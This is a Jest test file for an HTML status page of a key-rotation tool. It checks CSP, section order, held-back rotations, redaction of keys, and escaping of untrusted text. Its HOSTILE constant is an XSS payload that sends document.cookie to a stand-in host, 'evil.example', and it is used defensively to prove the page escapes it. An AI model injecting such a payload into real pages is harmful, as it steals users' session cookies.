import { createHash } from 'node:crypto';
import { describe, expect, test } from '@jest/globals';
import { refusalPage } from '../../../src/app/page/refusal.ts';
import { pageOf } from '../../../src/app/page/page.ts';
import { inFlight, NOW } from '../../support/journals.ts';
import { memberOf, sick } from '../../support/members.ts';
import { heldBackPage, pageFleet, pageOfMembers } from '../../support/page-fleet.ts';
import { consumer, read, readersBy } from '../../support/readings.ts';

const HOSTILE = `"><script>fetch('https://evil.example/'+document.cookie)</script><img src=x onerror=alert(1)>\u202E`;

describe('the page', () => {
  const html = pageOf(pageFleet());

  test('is one file that runs nothing and fetches nothing', () => {
    expect(html).not.toMatch(/<script|<link|<img|<iframe|<object|<form|@import|url\((?!#)|\son\w+=|javascript:/i);
    expect(html.replaceAll(/xmlns="[^"]*"/g, '')).not.toMatch(/https?:|\/\//);
    expect(html).not.toContain(' style="');
  });

  test('tells the browser so itself, and the hash is that of its one style', () => {
    const style = /<style>([\s\S]*?)<\/style>/.exec(html)?.[1] ?? '';
    const hash = createHash('sha256').update(style).digest('base64');
    expect(html).toContain(
      `content="default-src &#39;none&#39;; style-src &#39;sha256-${hash}&#39;; base-uri &#39;none&#39;; form-action &#39;none&#39;"`,
    );
  });

  test('begins with the verdict, says when it was made and who looked, and has all of its sections in order', () => {
    expect(html).toContain('<title>7 of 48 secrets are not well · Gemini keys</title>');
    expect(html).toContain('<p class="lead">7 of 48 secrets are not well.</p>');
    expect(html).toMatch(/As of <time[^>]*>2027-01-15 08:00<\/time> UTC; the last complete check ended 4 min ago\./);
    expect([...html.matchAll(/<h2[^>]*>(.*?)</g)].map(([, title]) => title)).toEqual([
      'Open',
      'Rotations',
      'Secrets',
      'History',
    ]);
  });

  test('says what people hold back, where they do: freezes, and rotations that wait for a second person', () => {
    expect(html).not.toContain('id="held-back"');
    const held = pageOf(heldBackPage());
    const text = held
      .slice(held.indexOf('id="held-back"'), held.indexOf('id="rotations"'))
      .replaceAll(/<[^>]+>/g, '\n');
    for (const said of [
      'All secrets\n',
      'All secrets of ads-prod',
      'billing-app',
      'the end of the year',
      'owned by release-team, set by jane (claimed)',
      'waits for approval',
      'its rotation, asked for by jane (claimed) at 2027-01-15 07:00 UTC, waits for somebody else than jane until 2027-01-18 07:00 UTC',
      'key-warden approve --secret projects/123456789012/secrets/mail-batch --plan 0123456789ab',
      'was approved by ops@example.com (verified) and has not begun; that lapses at 2027-01-18 07:00 UTC',
    ])
      expect(text).toContain(said);
    expect(text.match(/key-warden approve/g)).toHaveLength(1);
  });

  test('has the consumers before the history, where somebody asked for them', () => {
    expect(html).not.toContain('id="consumers"');
    const asked = pageOf({ ...pageFleet(), readers: readersBy({}) });
    expect(asked).toMatch(/<h2 id="consumers-title">Consumers<\/h2>.*<h2 id="history-title">/s);
  });

  test('every id is there once, and every link leads to one', () => {
    const ids = [...html.matchAll(/ id="([^"]+)"/g)].map(([, id]) => id);
    expect(new Set(ids).size).toBe(ids.length);
    for (const [, target] of html.matchAll(/href="#([^"]+)"/g)) expect(ids).toContain(target);
  });
});

describe('whatever others wrote', () => {
  test('a hostile text stays text, wherever it stands', () => {
    const rotation = inFlight({
      held: true,
      why: HOSTILE,
      by: { who: HOSTILE, is: 'claimed' },
      steered: { to: 'abort', by: { who: HOSTILE, is: 'claimed' } },
    });
    const member = memberOf({
      secret: HOSTILE,
      project: HOSTILE,
      aliases: { current: 1 },
      rotation,
      condition: 'held',
      history: [
        {
          id: HOSTILE,
          reason: 'request',
          outcome: 'abandoned',
          from: 1,
          at: NOW,
          why: HOSTILE,
          by: { who: HOSTILE, is: 'verified' },
        },
      ],
      retired: [{ version: 1, at: NOW, rotation: HOSTILE, keyUnknown: HOSTILE }],
      health: sick({ id: HOSTILE }),
    });
    const page = pageOfMembers([member, memberOf()], { problems: [HOSTILE] });
    const holders = new Map([[HOSTILE, [{ secret: HOSTILE, version: 1, readAs: HOSTILE }]]]);
    const hostile = consumer(HOSTILE, [read(HOSTILE, HOSTILE, { at: HOSTILE })], {
      name: HOSTILE,
      project: HOSTILE,
      region: HOSTILE,
      running: [{ name: HOSTILE, share: 0, tag: HOSTILE, reads: [read('7', HOSTILE, { at: HOSTILE })] }],
    });
    const readers = readersBy({ [HOSTILE]: [hostile] }, [HOSTILE]);
    const html = pageOf({ ...page, holders, readers, stops: [{ project: HOSTILE, why: HOSTILE }] });
    expect(html).not.toMatch(/<script|<img|\u202E/);
    expect(html.match(/&lt;script&gt;/g)?.length).toBeGreaterThan(20);
  });

  test('a key that stands in a text is not on the page (I9)', () => {
    const key = `AI${'za'}${'k'.repeat(35)}`;
    const html = pageOf(pageOfMembers([memberOf({ rotation: inFlight({ why: `try ${key}` }) })], { problems: [key] }));
    expect(html).not.toContain(key);
    expect(html).toContain('try [redacted key]');
  });
});

describe('what the page does not show', () => {
  test('is said: what could not be seen, what was not asked for, and whose age nobody looked up', () => {
    const page = pageOfMembers([memberOf(), memberOf()], { problems: ['project x: denied'], notLooked: 2 });
    const html = pageOf({ ...page, shown: page.shown.slice(0, 1), stops: [{ project: 'p', why: 'two alike' }] });
    expect(html).toContain('Not seen: project x: denied');
    expect(html).toContain('1 more secret not asked for.');
    expect(html).toContain('The age of 2 keys was not looked up.');
    expect(html).toContain('No rotation is begun in project p because of a key’s age: two alike');
  });

  test('an empty fleet, and one of which nothing was asked for, are pages too', () => {
    expect(pageOf(pageOfMembers([]))).toContain('No managed secret was found.');
    expect(pageOf({ ...pageOfMembers([memberOf()]), shown: [] })).toContain('<p class="quiet">None.</p>');
    expect(pageOf(pageOfMembers([]))).toContain('<p class="quiet">Nothing is open.</p>');
  });
});

describe('who is not shown the page', () => {
  test('reads why in a page of the same kind, which escapes it too', () => {
    const html = refusalPage(403, HOSTILE);
    expect(html).toContain('<p class="lead">This page is not for you.</p>');
    expect(html).not.toMatch(/<script|<img/);
    expect(html).toContain('style-src');
    expect(refusalPage(503, 'try again')).toContain('<p class="lead">This page cannot be shown.</p>');
  });
});
